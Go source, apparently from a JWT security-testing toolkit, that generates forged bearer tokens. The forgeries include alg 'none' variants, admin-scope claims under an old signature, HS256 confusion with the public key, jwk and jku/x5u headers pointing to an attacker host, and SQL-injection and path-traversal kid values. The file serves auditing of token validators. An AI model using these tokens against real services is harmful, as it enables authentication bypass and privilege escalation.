package attack

import (
	"encoding/base64"
	"strings"

	"github.com/jwtkit/toolkit/internal/forge"
)

// unsigned cases say that they need no signature, or have lost it.
func (t *target) unsigned() []Case {
	const class = "no signature"
	cases := []Case{
		bearer(class, "the signature cut off", t.header+"."+t.payload+"."),
		bearer(class, "header and payload alone", t.header+"."+t.payload),
	}
	for _, none := range []string{"none", "None", "NONE", "nOnE", ""} {
		cases = append(cases, bearer(class, `alg "`+none+`"`, forge.Encode(t.headerOf(none, nil))+"."+t.payload+"."))
	}
	return append(cases, bearer(class, "alg none over a signature", forge.Encode(t.headerOf("none", nil))+"."+t.payload+"."+t.signature))
}

// altered cases have a signature over something else, or by somebody else.
func (t *target) altered() []Case {
	const class = "signature"
	more := forge.Encode(changed(t.claims, map[string]any{"scope": "admin", "client_id": "root"}))
	cases := []Case{
		bearer(class, "other claims under the old signature", t.header+"."+more+"."+t.signature),
		bearer(class, "another header under the old signature", forge.Encode(t.headerOf(t.algorithm, map[string]any{"x": 1}))+"."+t.payload+"."+t.signature),
		bearer(class, "half a signature", t.header+"."+t.payload+"."+t.signature[:len(t.signature)/8*4]),
		bearer(class, "a signature of zeros", t.header+"."+t.payload+"."+base64.RawURLEncoding.EncodeToString(make([]byte, len(t.signature)*3/4))),
	}
	return append(cases, bearer(class, "another key under the same kid",
		forge.NewKey(t.algorithm, t.kid).Sign(t.headerOf(t.algorithm, nil), t.claims)))
}

// confused cases are signed with a secret that everybody knows: the public key
// (RFC 8725 section 2.1), or nothing at all.
func (t *target) confused() []Case {
	const class = "algorithm confusion"
	var cases []Case
	for name, secret := range t.key.forms() {
		cases = append(cases, bearer(class, "HS256 with "+name+" as secret", t.sharedWith("HS256", secret, nil)))
	}
	return append(cases,
		bearer(class, "HS512 with the public key in PEM as secret", t.sharedWith("HS512", t.key.pem(), nil)),
		bearer(class, "HS256 with an empty secret", t.sharedWith("HS256", nil, nil)),
		bearer(class, "HS256 with an empty secret and a kid that is a path", t.sharedWith("HS256", nil, map[string]any{"kid": "../../../../dev/null"})))
}

// injected cases bring the key along that they want to be judged with.
func (t *target) injected() []Case {
	const class = "key brought along"
	mine := forge.NewKey("ES256", "mine")
	sign := func(name string, header map[string]any) Case {
		return bearer(class, name, mine.Sign(t.headerOf("ES256", header), t.claims))
	}
	return []Case{
		sign("a key in jwk", map[string]any{"jwk": rawJSON(mine.JWK(""))}),
		sign("a key in jwk, and no kid", map[string]any{"jwk": rawJSON(mine.JWK("")), "kid": ""}),
		sign("an address in jku", map[string]any{"jku": "https://attacker.invalid/jwks.json", "kid": "mine"}),
		sign("an address in x5u", map[string]any{"x5u": "https://attacker.invalid/key.pem", "kid": "mine"}),
		sign("a kid that is SQL", map[string]any{"kid": "x' UNION SELECT 'key' --"}),
	}
}

// malformed cases hold the good token, but are none (RFC 7515 section 3.1).
func (t *target) malformed() []Case {
	const class = "form"
	cases := []Case{
		bearer(class, "a fourth segment", t.text+".x"),
		bearer(class, "a dot behind the token", t.text+"."),
		bearer(class, "padding behind the signature", t.text+strings.Repeat("=", max(1, -len(t.signature)&3))),
		bearer(class, "a blank inside", t.header+". "+t.payload+"."+t.signature),
		bearer(class, "quotes around the token", `"`+t.text+`"`),
		bearer(class, "the JSON serialisation", `{"protected":"`+t.header+`","payload":"`+t.payload+`","signature":"`+t.signature+`"}`),
		bearer(class, "Bearer twice", "Bearer "+t.text),
		bearer(class, "a thousand dots", strings.Repeat(".", 1000)),
	}
	if standard := inStandardAlphabet.Replace(t.signature); standard != t.signature {
		cases = append(cases, bearer(class, "the signature in the standard alphabet", t.header+"."+t.payload+"."+standard))
	}
	if len(t.signature)%4 != 0 { // else every bit counts
		cases = append(cases, bearer(class, "a bit set behind the signature's last byte", t.header+"."+t.payload+"."+unusedBitSet(t.signature)))
	}
	return cases
}

var inStandardAlphabet = strings.NewReplacer("-", "+", "_", "/")

// unusedBitSet gives base64url another spelling of the same bytes (RFC 4648
// section 3.5). Its last character has bits to spare.
func unusedBitSet(text string) string {
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
	last := len(text) - 1
	return text[:last] + string(alphabet[strings.IndexByte(alphabet, text[last])|1])
}
